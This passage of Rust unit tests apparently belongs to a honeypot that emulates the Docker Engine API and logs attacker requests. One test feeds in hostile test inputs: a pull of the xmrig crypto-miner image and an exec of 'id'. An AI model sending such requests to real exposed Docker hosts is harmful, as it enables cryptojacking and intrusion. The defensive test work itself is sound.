        assert!(String::from_utf8_lossy(&started.body).contains(
            "unable to start container process: exec: \\\"sh\\\": executable file not found in $PATH: unknown"
        ));
        assert_eq!(call("POST", "/v1.41/containers/create", b"{}").status, 400, "No command specified");
        for _ in 0..40 {
            call("POST", "/containers/create", br#"{"Cmd":["x"]}"#);
        }
        assert_eq!(state.created.len(), MAX_CREATED, "a session remembers a bounded number");
    }

    #[test]
    fn pulls_and_execs_are_recorded_and_fail_as_an_offline_host() {
        let p = persona("ubuntu-22.04");
        let (a, lines) = call(&p, "POST", "/v1.43/images/create?fromImage=xmrig%2Fxmrig&tag=6.21", b"");
        assert_eq!(a.status, 500);
        assert_eq!(lines, ["images/create xmrig/xmrig:6.21"]);
        assert!(String::from_utf8_lossy(&a.body).contains("lookup registry-1.docker.io on 127.0.0.53:53"));
        let (a, lines) = call(&p, "POST", "/containers/abc/exec", br#"{"Cmd":["id"]}"#);
        assert_eq!(a.status, 404);
        assert_eq!(lines, ["containers/abc/exec [\"id\"]"]);
    }

    #[test]
    fn image_references_get_the_default_tag() {
        assert_eq!(with_tag("alpine"), "alpine:latest");
        assert_eq!(with_tag("reg:5000/a/b"), "reg:5000/a/b:latest");
        assert_eq!(with_tag("a:1"), "a:1");
        assert_eq!(with_tag("a@sha256:00"), "a@sha256:00");
    }
}
